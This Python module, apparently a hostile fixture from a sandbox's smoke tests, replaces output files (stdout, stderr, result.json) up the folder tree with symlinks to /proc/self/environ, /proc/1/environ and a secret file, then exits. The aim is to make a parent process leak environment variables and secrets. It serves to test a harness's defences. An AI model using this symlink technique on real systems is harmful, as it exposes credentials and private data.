"""Hostile: replaces every output file it can find (stdout, stderr, result.json), in every
folder from its own up to pgolf's temporary directory, with links to /proc/self/environ and to
a secret file in the caller's HOME, then exits mid-import, so that a parent reading its outputs
by path would print them."""
import json
import os

_targets = json.load(open("targets.json"))
_links = ["/proc/self/environ", "/proc/1/environ", _targets["secret_file"]]
_folder = os.getcwd()
while True:
    for _sub in ("", "out"):
        for _name, _to in zip(("stderr", "stdout", "result.json"), _links):
            _path = os.path.join(_folder, _sub, _name)
            try:
                if os.path.lexists(_path):
                    os.unlink(_path)
                os.symlink(_to, _path)
            except OSError:
                pass
    _folder = os.path.dirname(_folder)
    if "pgolf-smoke-" not in _folder:  # the host's own folders are not the target here
        break
os._exit(3)

if __name__ == "__main__":
    pass
